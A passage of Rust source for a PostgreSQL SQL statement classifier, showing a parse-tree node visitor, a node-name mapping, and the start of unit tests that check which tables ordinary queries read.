            if let Some(x) = &n.infer {
                f(NodeRef::InferClause(x));
            }
            visit_list(&n.target_list, f);
            visit_opt(n.where_clause.as_deref(), f);
        }
        NodeRef::CommonTableExpr(n) => {
            visit_list(&n.aliascolnames, f);
            visit_opt(n.ctequery.as_deref(), f);
            if let Some(x) = &n.search_clause {
                f(NodeRef::CtesearchClause(x));
            }
            if let Some(x) = &n.cycle_clause {
                f(NodeRef::CtecycleClause(x));
            }
            visit_list(&n.ctecolnames, f);
            visit_list(&n.ctecoltypes, f);
            visit_list(&n.ctecoltypmods, f);
            visit_list(&n.ctecolcollations, f);
        }
        NodeRef::PartitionElem(n) => {
            visit_opt(n.expr.as_deref(), f);
            visit_list(&n.collation, f);
            visit_list(&n.opclass, f);
        }
        NodeRef::PartitionSpec(n) => {
            visit_list(&n.part_params, f);
        }
        NodeRef::PartitionBoundSpec(n) => {
            visit_list(&n.listdatums, f);
            visit_list(&n.lowerdatums, f);
            visit_list(&n.upperdatums, f);
        }
        NodeRef::PartitionRangeDatum(n) => {
            visit_opt(n.value.as_deref(), f);
        }
        NodeRef::PartitionCmd(n) => {
            if let Some(x) = &n.name {
                f(NodeRef::RangeVar(x));
            }
            if let Some(x) = &n.bound {
                f(NodeRef::PartitionBoundSpec(x));
            }
        }
        NodeRef::VacuumRelation(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_list(&n.va_cols, f);
        }
        NodeRef::List(n) => {
            visit_list(&n.items, f);
        }
        NodeRef::IntList(n) => {
            visit_list(&n.items, f);
        }
        NodeRef::OidList(n) => {
            visit_list(&n.items, f);
        }
        NodeRef::MergeStmt(n) => {
            if let Some(x) = &n.with_clause {
                f(NodeRef::WithClause(x));
            }
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.source_relation.as_deref(), f);
            visit_opt(n.join_condition.as_deref(), f);
            visit_list(&n.merge_when_clauses, f);
            if let Some(x) = &n.returning_clause {
                f(NodeRef::ReturningClause(x));
            }
        }
        NodeRef::MergeAction(n) => {
            visit_opt(n.qual.as_deref(), f);
            visit_list(&n.target_list, f);
            visit_list(&n.update_colnos, f);
        }
        NodeRef::ReturnStmt(n) => {
            visit_opt(n.returnval.as_deref(), f);
        }
        NodeRef::ReturningClause(n) => {
            visit_list(&n.options, f);
            visit_list(&n.exprs, f);
        }
        NodeRef::ReturningExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.retexpr.as_deref(), f);
        }
        NodeRef::PlassignStmt(n) => {
            visit_list(&n.indirection, f);
            if let Some(x) = &n.val {
                f(NodeRef::SelectStmt(x));
            }
        }
        NodeRef::StatsElem(n) => {
            visit_opt(n.expr.as_deref(), f);
        }
        NodeRef::CtesearchClause(n) => {
            visit_list(&n.search_col_list, f);
        }
        NodeRef::CtecycleClause(n) => {
            visit_list(&n.cycle_col_list, f);
            visit_opt(n.cycle_mark_value.as_deref(), f);
            visit_opt(n.cycle_mark_default.as_deref(), f);
        }
        NodeRef::MergeWhenClause(n) => {
            visit_opt(n.condition.as_deref(), f);
            visit_list(&n.target_list, f);
            visit_list(&n.values, f);
        }
        NodeRef::PublicationObjSpec(n) => {
            if let Some(x) = &n.pubtable {
                f(NodeRef::PublicationTable(x));
            }
        }
        NodeRef::PublicationTable(n) => {
            if let Some(x) = &n.relation {
                f(NodeRef::RangeVar(x));
            }
            visit_opt(n.where_clause.as_deref(), f);
            visit_list(&n.columns, f);
        }
        NodeRef::JsonReturning(n) => {
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
        }
        NodeRef::JsonValueExpr(n) => {
            visit_opt(n.raw_expr.as_deref(), f);
            visit_opt(n.formatted_expr.as_deref(), f);
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
        }
        NodeRef::JsonConstructorExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_list(&n.args, f);
            visit_opt(n.func.as_deref(), f);
            visit_opt(n.coercion.as_deref(), f);
            if let Some(x) = &n.returning {
                f(NodeRef::JsonReturning(x));
            }
        }
        NodeRef::JsonIsPredicate(n) => {
            visit_opt(n.expr.as_deref(), f);
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
        }
        NodeRef::JsonOutput(n) => {
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.returning {
                f(NodeRef::JsonReturning(x));
            }
        }
        NodeRef::JsonKeyValue(n) => {
            visit_opt(n.key.as_deref(), f);
            if let Some(x) = &n.value {
                f(NodeRef::JsonValueExpr(x));
            }
        }
        NodeRef::JsonObjectConstructor(n) => {
            visit_list(&n.exprs, f);
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
        }
        NodeRef::JsonArrayConstructor(n) => {
            visit_list(&n.exprs, f);
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
        }
        NodeRef::JsonArrayQueryConstructor(n) => {
            visit_opt(n.query.as_deref(), f);
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
        }
        NodeRef::JsonAggConstructor(n) => {
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
            visit_opt(n.agg_filter.as_deref(), f);
            visit_list(&n.agg_order, f);
            if let Some(x) = &n.over {
                f(NodeRef::WindowDef(x));
            }
        }
        NodeRef::JsonObjectAgg(n) => {
            if let Some(x) = &n.constructor {
                f(NodeRef::JsonAggConstructor(x));
            }
            if let Some(x) = &n.arg {
                f(NodeRef::JsonKeyValue(x));
            }
        }
        NodeRef::JsonArrayAgg(n) => {
            if let Some(x) = &n.constructor {
                f(NodeRef::JsonAggConstructor(x));
            }
            if let Some(x) = &n.arg {
                f(NodeRef::JsonValueExpr(x));
            }
        }
        NodeRef::WindowFuncRunCondition(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.arg.as_deref(), f);
        }
        NodeRef::MergeSupportFunc(n) => {
            visit_opt(n.xpr.as_deref(), f);
        }
        NodeRef::JsonBehavior(n) => {
            visit_opt(n.expr.as_deref(), f);
        }
        NodeRef::JsonExpr(n) => {
            visit_opt(n.xpr.as_deref(), f);
            visit_opt(n.formatted_expr.as_deref(), f);
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
            visit_opt(n.path_spec.as_deref(), f);
            if let Some(x) = &n.returning {
                f(NodeRef::JsonReturning(x));
            }
            visit_list(&n.passing_names, f);
            visit_list(&n.passing_values, f);
            if let Some(x) = &n.on_empty {
                f(NodeRef::JsonBehavior(x));
            }
            if let Some(x) = &n.on_error {
                f(NodeRef::JsonBehavior(x));
            }
        }
        NodeRef::JsonTablePathScan(n) => {
            visit_opt(n.plan.as_deref(), f);
            if let Some(x) = &n.path {
                f(NodeRef::JsonTablePath(x));
            }
            visit_opt(n.child.as_deref(), f);
        }
        NodeRef::JsonTableSiblingJoin(n) => {
            visit_opt(n.plan.as_deref(), f);
            visit_opt(n.lplan.as_deref(), f);
            visit_opt(n.rplan.as_deref(), f);
        }
        NodeRef::JsonArgument(n) => {
            if let Some(x) = &n.val {
                f(NodeRef::JsonValueExpr(x));
            }
        }
        NodeRef::JsonFuncExpr(n) => {
            if let Some(x) = &n.context_item {
                f(NodeRef::JsonValueExpr(x));
            }
            visit_opt(n.pathspec.as_deref(), f);
            visit_list(&n.passing, f);
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
            if let Some(x) = &n.on_empty {
                f(NodeRef::JsonBehavior(x));
            }
            if let Some(x) = &n.on_error {
                f(NodeRef::JsonBehavior(x));
            }
        }
        NodeRef::JsonTablePathSpec(n) => {
            visit_opt(n.string.as_deref(), f);
        }
        NodeRef::JsonTable(n) => {
            if let Some(x) = &n.context_item {
                f(NodeRef::JsonValueExpr(x));
            }
            if let Some(x) = &n.pathspec {
                f(NodeRef::JsonTablePathSpec(x));
            }
            visit_list(&n.passing, f);
            visit_list(&n.columns, f);
            if let Some(x) = &n.on_error {
                f(NodeRef::JsonBehavior(x));
            }
            if let Some(x) = &n.alias {
                f(NodeRef::Alias(x));
            }
        }
        NodeRef::JsonTableColumn(n) => {
            if let Some(x) = &n.type_name {
                f(NodeRef::TypeName(x));
            }
            if let Some(x) = &n.pathspec {
                f(NodeRef::JsonTablePathSpec(x));
            }
            if let Some(x) = &n.format {
                f(NodeRef::JsonFormat(x));
            }
            visit_list(&n.columns, f);
            if let Some(x) = &n.on_empty {
                f(NodeRef::JsonBehavior(x));
            }
            if let Some(x) = &n.on_error {
                f(NodeRef::JsonBehavior(x));
            }
        }
        NodeRef::JsonParseExpr(n) => {
            if let Some(x) = &n.expr {
                f(NodeRef::JsonValueExpr(x));
            }
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
        }
        NodeRef::JsonScalarExpr(n) => {
            visit_opt(n.expr.as_deref(), f);
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
        }
        NodeRef::JsonSerializeExpr(n) => {
            if let Some(x) = &n.expr {
                f(NodeRef::JsonValueExpr(x));
            }
            if let Some(x) = &n.output {
                f(NodeRef::JsonOutput(x));
            }
        }
        NodeRef::RangeTblRef(_)
        | NodeRef::ClosePortalStmt(_)
        | NodeRef::FetchStmt(_)
        | NodeRef::NotifyStmt(_)
        | NodeRef::ListenStmt(_)
        | NodeRef::UnlistenStmt(_)
        | NodeRef::LoadStmt(_)
        | NodeRef::VariableShowStmt(_)
        | NodeRef::DiscardStmt(_)
        | NodeRef::CheckPointStmt(_)
        | NodeRef::DeallocateStmt(_)
        | NodeRef::DropTableSpaceStmt(_)
        | NodeRef::AtalterConstraint(_)
        | NodeRef::AlterEventTrigStmt(_)
        | NodeRef::ReplicaIdentityStmt(_)
        | NodeRef::DropSubscriptionStmt(_)
        | NodeRef::ParamRef(_)
        | NodeRef::AConst(_)
        | NodeRef::AStar(_)
        | NodeRef::SortGroupClause(_)
        | NodeRef::RowMarkClause(_)
        | NodeRef::RoleSpec(_)
        | NodeRef::TriggerTransition(_)
        | NodeRef::InlineCodeBlock(_)
        | NodeRef::CallContext(_)
        | NodeRef::Integer(_)
        | NodeRef::Float(_)
        | NodeRef::Boolean(_)
        | NodeRef::String(_)
        | NodeRef::BitString(_)
        | NodeRef::AlterDatabaseRefreshCollStmt(_)
        | NodeRef::ReturningOption(_)
        | NodeRef::JsonFormat(_)
        | NodeRef::RtepermissionInfo(_)
        | NodeRef::JsonTablePath(_) => {}
    }
}

fn node_name(node: &NodeEnum) -> &'static str {
    match node {
        NodeEnum::Alias(_) => "Alias",
        NodeEnum::RangeVar(_) => "RangeVar",
        NodeEnum::TableFunc(_) => "TableFunc",
        NodeEnum::Var(_) => "Var",
        NodeEnum::Param(_) => "Param",
        NodeEnum::Aggref(_) => "Aggref",
        NodeEnum::GroupingFunc(_) => "GroupingFunc",
        NodeEnum::WindowFunc(_) => "WindowFunc",
        NodeEnum::SubscriptingRef(_) => "SubscriptingRef",
        NodeEnum::FuncExpr(_) => "FuncExpr",
        NodeEnum::NamedArgExpr(_) => "NamedArgExpr",
        NodeEnum::OpExpr(_) => "OpExpr",
        NodeEnum::DistinctExpr(_) => "DistinctExpr",
        NodeEnum::NullIfExpr(_) => "NullIfExpr",
        NodeEnum::ScalarArrayOpExpr(_) => "ScalarArrayOpExpr",
        NodeEnum::BoolExpr(_) => "BoolExpr",
        NodeEnum::SubLink(_) => "SubLink",
        NodeEnum::SubPlan(_) => "SubPlan",
        NodeEnum::AlternativeSubPlan(_) => "AlternativeSubPlan",
        NodeEnum::FieldSelect(_) => "FieldSelect",
        NodeEnum::FieldStore(_) => "FieldStore",
        NodeEnum::RelabelType(_) => "RelabelType",
        NodeEnum::CoerceViaIo(_) => "CoerceViaIO",
        NodeEnum::ArrayCoerceExpr(_) => "ArrayCoerceExpr",
        NodeEnum::ConvertRowtypeExpr(_) => "ConvertRowtypeExpr",
        NodeEnum::CollateExpr(_) => "CollateExpr",
        NodeEnum::CaseExpr(_) => "CaseExpr",
        NodeEnum::CaseWhen(_) => "CaseWhen",
        NodeEnum::CaseTestExpr(_) => "CaseTestExpr",
        NodeEnum::ArrayExpr(_) => "ArrayExpr",
        NodeEnum::RowExpr(_) => "RowExpr",
        NodeEnum::RowCompareExpr(_) => "RowCompareExpr",
        NodeEnum::CoalesceExpr(_) => "CoalesceExpr",
        NodeEnum::MinMaxExpr(_) => "MinMaxExpr",
        NodeEnum::SqlvalueFunction(_) => "SQLValueFunction",
        NodeEnum::XmlExpr(_) => "XmlExpr",
        NodeEnum::NullTest(_) => "NullTest",
        NodeEnum::BooleanTest(_) => "BooleanTest",
        NodeEnum::CoerceToDomain(_) => "CoerceToDomain",
        NodeEnum::CoerceToDomainValue(_) => "CoerceToDomainValue",
        NodeEnum::SetToDefault(_) => "SetToDefault",
        NodeEnum::CurrentOfExpr(_) => "CurrentOfExpr",
        NodeEnum::NextValueExpr(_) => "NextValueExpr",
        NodeEnum::InferenceElem(_) => "InferenceElem",
        NodeEnum::TargetEntry(_) => "TargetEntry",
        NodeEnum::RangeTblRef(_) => "RangeTblRef",
        NodeEnum::JoinExpr(_) => "JoinExpr",
        NodeEnum::FromExpr(_) => "FromExpr",
        NodeEnum::OnConflictExpr(_) => "OnConflictExpr",
        NodeEnum::IntoClause(_) => "IntoClause",
        NodeEnum::RawStmt(_) => "RawStmt",
        NodeEnum::Query(_) => "Query",
        NodeEnum::InsertStmt(_) => "InsertStmt",
        NodeEnum::DeleteStmt(_) => "DeleteStmt",
        NodeEnum::UpdateStmt(_) => "UpdateStmt",
        NodeEnum::SelectStmt(_) => "SelectStmt",
        NodeEnum::AlterTableStmt(_) => "AlterTableStmt",
        NodeEnum::AlterTableCmd(_) => "AlterTableCmd",
        NodeEnum::AlterDomainStmt(_) => "AlterDomainStmt",
        NodeEnum::SetOperationStmt(_) => "SetOperationStmt",
        NodeEnum::GrantStmt(_) => "GrantStmt",
        NodeEnum::GrantRoleStmt(_) => "GrantRoleStmt",
        NodeEnum::AlterDefaultPrivilegesStmt(_) => "AlterDefaultPrivilegesStmt",
        NodeEnum::ClosePortalStmt(_) => "ClosePortalStmt",
        NodeEnum::ClusterStmt(_) => "ClusterStmt",
        NodeEnum::CopyStmt(_) => "CopyStmt",
        NodeEnum::CreateStmt(_) => "CreateStmt",
        NodeEnum::DefineStmt(_) => "DefineStmt",
        NodeEnum::DropStmt(_) => "DropStmt",
        NodeEnum::TruncateStmt(_) => "TruncateStmt",
        NodeEnum::CommentStmt(_) => "CommentStmt",
        NodeEnum::FetchStmt(_) => "FetchStmt",
        NodeEnum::IndexStmt(_) => "IndexStmt",
        NodeEnum::CreateFunctionStmt(_) => "CreateFunctionStmt",
        NodeEnum::AlterFunctionStmt(_) => "AlterFunctionStmt",
        NodeEnum::DoStmt(_) => "DoStmt",
        NodeEnum::RenameStmt(_) => "RenameStmt",
        NodeEnum::RuleStmt(_) => "RuleStmt",
        NodeEnum::NotifyStmt(_) => "NotifyStmt",
        NodeEnum::ListenStmt(_) => "ListenStmt",
        NodeEnum::UnlistenStmt(_) => "UnlistenStmt",
        NodeEnum::TransactionStmt(_) => "TransactionStmt",
        NodeEnum::ViewStmt(_) => "ViewStmt",
        NodeEnum::LoadStmt(_) => "LoadStmt",
        NodeEnum::CreateDomainStmt(_) => "CreateDomainStmt",
        NodeEnum::CreatedbStmt(_) => "CreatedbStmt",
        NodeEnum::DropdbStmt(_) => "DropdbStmt",
        NodeEnum::VacuumStmt(_) => "VacuumStmt",
        NodeEnum::ExplainStmt(_) => "ExplainStmt",
        NodeEnum::CreateTableAsStmt(_) => "CreateTableAsStmt",
        NodeEnum::CreateSeqStmt(_) => "CreateSeqStmt",
        NodeEnum::AlterSeqStmt(_) => "AlterSeqStmt",
        NodeEnum::VariableSetStmt(_) => "VariableSetStmt",
        NodeEnum::VariableShowStmt(_) => "VariableShowStmt",
        NodeEnum::DiscardStmt(_) => "DiscardStmt",
        NodeEnum::CreateTrigStmt(_) => "CreateTrigStmt",
        NodeEnum::CreatePlangStmt(_) => "CreatePLangStmt",
        NodeEnum::CreateRoleStmt(_) => "CreateRoleStmt",
        NodeEnum::AlterRoleStmt(_) => "AlterRoleStmt",
        NodeEnum::DropRoleStmt(_) => "DropRoleStmt",
        NodeEnum::LockStmt(_) => "LockStmt",
        NodeEnum::ConstraintsSetStmt(_) => "ConstraintsSetStmt",
        NodeEnum::ReindexStmt(_) => "ReindexStmt",
        NodeEnum::CheckPointStmt(_) => "CheckPointStmt",
        NodeEnum::CreateSchemaStmt(_) => "CreateSchemaStmt",
        NodeEnum::AlterDatabaseStmt(_) => "AlterDatabaseStmt",
        NodeEnum::AlterDatabaseSetStmt(_) => "AlterDatabaseSetStmt",
        NodeEnum::AlterRoleSetStmt(_) => "AlterRoleSetStmt",
        NodeEnum::CreateConversionStmt(_) => "CreateConversionStmt",
        NodeEnum::CreateCastStmt(_) => "CreateCastStmt",
        NodeEnum::CreateOpClassStmt(_) => "CreateOpClassStmt",
        NodeEnum::CreateOpFamilyStmt(_) => "CreateOpFamilyStmt",
        NodeEnum::AlterOpFamilyStmt(_) => "AlterOpFamilyStmt",
        NodeEnum::PrepareStmt(_) => "PrepareStmt",
        NodeEnum::ExecuteStmt(_) => "ExecuteStmt",
        NodeEnum::DeallocateStmt(_) => "DeallocateStmt",
        NodeEnum::DeclareCursorStmt(_) => "DeclareCursorStmt",
        NodeEnum::CreateTableSpaceStmt(_) => "CreateTableSpaceStmt",
        NodeEnum::DropTableSpaceStmt(_) => "DropTableSpaceStmt",
        NodeEnum::AlterObjectDependsStmt(_) => "AlterObjectDependsStmt",
        NodeEnum::AlterObjectSchemaStmt(_) => "AlterObjectSchemaStmt",
        NodeEnum::AlterOwnerStmt(_) => "AlterOwnerStmt",
        NodeEnum::AlterOperatorStmt(_) => "AlterOperatorStmt",
        NodeEnum::AlterTypeStmt(_) => "AlterTypeStmt",
        NodeEnum::AtalterConstraint(_) => "ATAlterConstraint",
        NodeEnum::DropOwnedStmt(_) => "DropOwnedStmt",
        NodeEnum::ReassignOwnedStmt(_) => "ReassignOwnedStmt",
        NodeEnum::CompositeTypeStmt(_) => "CompositeTypeStmt",
        NodeEnum::CreateEnumStmt(_) => "CreateEnumStmt",
        NodeEnum::CreateRangeStmt(_) => "CreateRangeStmt",
        NodeEnum::AlterEnumStmt(_) => "AlterEnumStmt",
        NodeEnum::AlterTsdictionaryStmt(_) => "AlterTSDictionaryStmt",
        NodeEnum::AlterTsconfigurationStmt(_) => "AlterTSConfigurationStmt",
        NodeEnum::CreateFdwStmt(_) => "CreateFdwStmt",
        NodeEnum::AlterFdwStmt(_) => "AlterFdwStmt",
        NodeEnum::CreateForeignServerStmt(_) => "CreateForeignServerStmt",
        NodeEnum::AlterForeignServerStmt(_) => "AlterForeignServerStmt",
        NodeEnum::CreateUserMappingStmt(_) => "CreateUserMappingStmt",
        NodeEnum::AlterUserMappingStmt(_) => "AlterUserMappingStmt",
        NodeEnum::DropUserMappingStmt(_) => "DropUserMappingStmt",
        NodeEnum::AlterTableSpaceOptionsStmt(_) => "AlterTableSpaceOptionsStmt",
        NodeEnum::AlterTableMoveAllStmt(_) => "AlterTableMoveAllStmt",
        NodeEnum::SecLabelStmt(_) => "SecLabelStmt",
        NodeEnum::CreateForeignTableStmt(_) => "CreateForeignTableStmt",
        NodeEnum::ImportForeignSchemaStmt(_) => "ImportForeignSchemaStmt",
        NodeEnum::CreateExtensionStmt(_) => "CreateExtensionStmt",
        NodeEnum::AlterExtensionStmt(_) => "AlterExtensionStmt",
        NodeEnum::AlterExtensionContentsStmt(_) => "AlterExtensionContentsStmt",
        NodeEnum::CreateEventTrigStmt(_) => "CreateEventTrigStmt",
        NodeEnum::AlterEventTrigStmt(_) => "AlterEventTrigStmt",
        NodeEnum::RefreshMatViewStmt(_) => "RefreshMatViewStmt",
        NodeEnum::ReplicaIdentityStmt(_) => "ReplicaIdentityStmt",
        NodeEnum::AlterSystemStmt(_) => "AlterSystemStmt",
        NodeEnum::CreatePolicyStmt(_) => "CreatePolicyStmt",
        NodeEnum::AlterPolicyStmt(_) => "AlterPolicyStmt",
        NodeEnum::CreateTransformStmt(_) => "CreateTransformStmt",
        NodeEnum::CreateAmStmt(_) => "CreateAmStmt",
        NodeEnum::CreatePublicationStmt(_) => "CreatePublicationStmt",
        NodeEnum::AlterPublicationStmt(_) => "AlterPublicationStmt",
        NodeEnum::CreateSubscriptionStmt(_) => "CreateSubscriptionStmt",
        NodeEnum::AlterSubscriptionStmt(_) => "AlterSubscriptionStmt",
        NodeEnum::DropSubscriptionStmt(_) => "DropSubscriptionStmt",
        NodeEnum::CreateStatsStmt(_) => "CreateStatsStmt",
        NodeEnum::AlterCollationStmt(_) => "AlterCollationStmt",
        NodeEnum::CallStmt(_) => "CallStmt",
        NodeEnum::AlterStatsStmt(_) => "AlterStatsStmt",
        NodeEnum::AExpr(_) => "A_Expr",
        NodeEnum::ColumnRef(_) => "ColumnRef",
        NodeEnum::ParamRef(_) => "ParamRef",
        NodeEnum::AConst(_) => "A_Const",
        NodeEnum::FuncCall(_) => "FuncCall",
        NodeEnum::AStar(_) => "A_Star",
        NodeEnum::AIndices(_) => "A_Indices",
        NodeEnum::AIndirection(_) => "A_Indirection",
        NodeEnum::AArrayExpr(_) => "A_ArrayExpr",
        NodeEnum::ResTarget(_) => "ResTarget",
        NodeEnum::MultiAssignRef(_) => "MultiAssignRef",
        NodeEnum::TypeCast(_) => "TypeCast",
        NodeEnum::CollateClause(_) => "CollateClause",
        NodeEnum::SortBy(_) => "SortBy",
        NodeEnum::WindowDef(_) => "WindowDef",
        NodeEnum::RangeSubselect(_) => "RangeSubselect",
        NodeEnum::RangeFunction(_) => "RangeFunction",
        NodeEnum::RangeTableSample(_) => "RangeTableSample",
        NodeEnum::RangeTableFunc(_) => "RangeTableFunc",
        NodeEnum::RangeTableFuncCol(_) => "RangeTableFuncCol",
        NodeEnum::TypeName(_) => "TypeName",
        NodeEnum::ColumnDef(_) => "ColumnDef",
        NodeEnum::IndexElem(_) => "IndexElem",
        NodeEnum::Constraint(_) => "Constraint",
        NodeEnum::DefElem(_) => "DefElem",
        NodeEnum::RangeTblEntry(_) => "RangeTblEntry",
        NodeEnum::RangeTblFunction(_) => "RangeTblFunction",
        NodeEnum::TableSampleClause(_) => "TableSampleClause",
        NodeEnum::WithCheckOption(_) => "WithCheckOption",
        NodeEnum::SortGroupClause(_) => "SortGroupClause",
        NodeEnum::GroupingSet(_) => "GroupingSet",
        NodeEnum::WindowClause(_) => "WindowClause",
        NodeEnum::ObjectWithArgs(_) => "ObjectWithArgs",
        NodeEnum::AccessPriv(_) => "AccessPriv",
        NodeEnum::CreateOpClassItem(_) => "CreateOpClassItem",
        NodeEnum::TableLikeClause(_) => "TableLikeClause",
        NodeEnum::FunctionParameter(_) => "FunctionParameter",
        NodeEnum::LockingClause(_) => "LockingClause",
        NodeEnum::RowMarkClause(_) => "RowMarkClause",
        NodeEnum::XmlSerialize(_) => "XmlSerialize",
        NodeEnum::WithClause(_) => "WithClause",
        NodeEnum::InferClause(_) => "InferClause",
        NodeEnum::OnConflictClause(_) => "OnConflictClause",
        NodeEnum::CommonTableExpr(_) => "CommonTableExpr",
        NodeEnum::RoleSpec(_) => "RoleSpec",
        NodeEnum::TriggerTransition(_) => "TriggerTransition",
        NodeEnum::PartitionElem(_) => "PartitionElem",
        NodeEnum::PartitionSpec(_) => "PartitionSpec",
        NodeEnum::PartitionBoundSpec(_) => "PartitionBoundSpec",
        NodeEnum::PartitionRangeDatum(_) => "PartitionRangeDatum",
        NodeEnum::PartitionCmd(_) => "PartitionCmd",
        NodeEnum::VacuumRelation(_) => "VacuumRelation",
        NodeEnum::InlineCodeBlock(_) => "InlineCodeBlock",
        NodeEnum::CallContext(_) => "CallContext",
        NodeEnum::Integer(_) => "Integer",
        NodeEnum::Float(_) => "Float",
        NodeEnum::Boolean(_) => "Boolean",
        NodeEnum::String(_) => "String",
        NodeEnum::BitString(_) => "BitString",
        NodeEnum::List(_) => "List",
        NodeEnum::IntList(_) => "IntList",
        NodeEnum::OidList(_) => "OidList",
        NodeEnum::MergeStmt(_) => "MergeStmt",
        NodeEnum::MergeAction(_) => "MergeAction",
        NodeEnum::AlterDatabaseRefreshCollStmt(_) => "AlterDatabaseRefreshCollStmt",
        NodeEnum::ReturnStmt(_) => "ReturnStmt",
        NodeEnum::ReturningClause(_) => "ReturningClause",
        NodeEnum::ReturningExpr(_) => "ReturningExpr",
        NodeEnum::ReturningOption(_) => "ReturningOption",
        NodeEnum::PlassignStmt(_) => "PLAssignStmt",
        NodeEnum::StatsElem(_) => "StatsElem",
        NodeEnum::CtesearchClause(_) => "CTESearchClause",
        NodeEnum::CtecycleClause(_) => "CTECycleClause",
        NodeEnum::MergeWhenClause(_) => "MergeWhenClause",
        NodeEnum::PublicationObjSpec(_) => "PublicationObjSpec",
        NodeEnum::PublicationTable(_) => "PublicationTable",
        NodeEnum::JsonFormat(_) => "JsonFormat",
        NodeEnum::JsonReturning(_) => "JsonReturning",
        NodeEnum::JsonValueExpr(_) => "JsonValueExpr",
        NodeEnum::JsonConstructorExpr(_) => "JsonConstructorExpr",
        NodeEnum::JsonIsPredicate(_) => "JsonIsPredicate",
        NodeEnum::JsonOutput(_) => "JsonOutput",
        NodeEnum::JsonKeyValue(_) => "JsonKeyValue",
        NodeEnum::JsonObjectConstructor(_) => "JsonObjectConstructor",
        NodeEnum::JsonArrayConstructor(_) => "JsonArrayConstructor",
        NodeEnum::JsonArrayQueryConstructor(_) => "JsonArrayQueryConstructor",
        NodeEnum::JsonAggConstructor(_) => "JsonAggConstructor",
        NodeEnum::JsonObjectAgg(_) => "JsonObjectAgg",
        NodeEnum::JsonArrayAgg(_) => "JsonArrayAgg",
        NodeEnum::RtepermissionInfo(_) => "RTEPermissionInfo",
        NodeEnum::WindowFuncRunCondition(_) => "WindowFuncRunCondition",
        NodeEnum::MergeSupportFunc(_) => "MergeSupportFunc",
        NodeEnum::JsonBehavior(_) => "JsonBehavior",
        NodeEnum::JsonExpr(_) => "JsonExpr",
        NodeEnum::JsonTablePath(_) => "JsonTablePath",
        NodeEnum::JsonTablePathScan(_) => "JsonTablePathScan",
        NodeEnum::JsonTableSiblingJoin(_) => "JsonTableSiblingJoin",
        NodeEnum::JsonArgument(_) => "JsonArgument",
        NodeEnum::JsonFuncExpr(_) => "JsonFuncExpr",
        NodeEnum::JsonTablePathSpec(_) => "JsonTablePathSpec",
        NodeEnum::JsonTable(_) => "JsonTable",
        NodeEnum::JsonTableColumn(_) => "JsonTableColumn",
        NodeEnum::JsonParseExpr(_) => "JsonParseExpr",
        NodeEnum::JsonScalarExpr(_) => "JsonScalarExpr",
        NodeEnum::JsonSerializeExpr(_) => "JsonSerializeExpr",
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;
    use StatementKind as K;

    fn one(sql: &str) -> SqlStatement {
        let mut all = classify(sql);
        assert_eq!(all.len(), 1, "{sql}: {all:?}");
        let single = classify_one(sql);
        let stmt = all.pop().unwrap();
        assert_eq!(stmt, single, "classify and classify_one disagree on {sql}");
        stmt
    }

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| (*x).to_owned()).collect()
    }

    #[test]
    fn classify_select_join_subquery() {
        let st = one(
            "SELECT c.name, o.total FROM customers c JOIN orders o ON o.cid = c.id \
             WHERE c.id IN (SELECT cid FROM vip) AND EXISTS (SELECT 1 FROM audit.log l)",
        );
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.command, "SelectStmt");
        assert_eq!(
            st.tables_read,
            s(&["audit.log", "public.customers", "public.orders", "public.vip"])
        );
        assert!(st.tables_written.is_empty());
        assert!(st.has_where);
        assert!(st.parse_error.is_none());
    }

    #[test]
    fn classify_select_variants() {
        let st = one("SELECT * FROM a UNION SELECT * FROM (SELECT * FROM b) x ORDER BY 1");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.tables_read, s(&["public.a", "public.b"]));
        let st = one("SELECT * FROM t FOR UPDATE");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.tables_read, s(&["public.t"]));
        let st = one("VALUES (1), ((SELECT max(x) FROM m))");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.tables_read, s(&["public.m"]));
        assert_eq!(st.functions, s(&["max"]));
        let st = one("TABLE secrets");
        assert_eq!(st.tables_read, s(&["public.secrets"]));
        let st = one("SELECT 1");
        assert!(st.tables_read.is_empty());
        assert!(!st.has_where);
    }

    #[test]
    fn classify_qualified_and_quoted_identifiers() {
        let st = one(r#"SELECT * FROM Sales.Orders, "Sales"."Orders", "MixedCase", mydb.hr.emp"#);
        assert_eq!(
            st.tables_read,
            s(&["Sales.Orders", "hr.emp", "public.MixedCase", "sales.orders"])
        );
    }

    #[test]
    fn classify_ctes_are_not_tables() {
        let st = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent r JOIN customers c ON true");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.tables_read, s(&["public.customers", "public.orders"]));
        // A non-recursive CTE body sees the table, not itself.
        let st = one("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers");
        assert_eq!(st.tables_read, s(&["public.customers"]));
        // Scope ends with the statement: the outer query reads the real table.
        let st = one("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) x, t");
        assert_eq!(st.tables_read, s(&["public.t"]));
        let st = one(
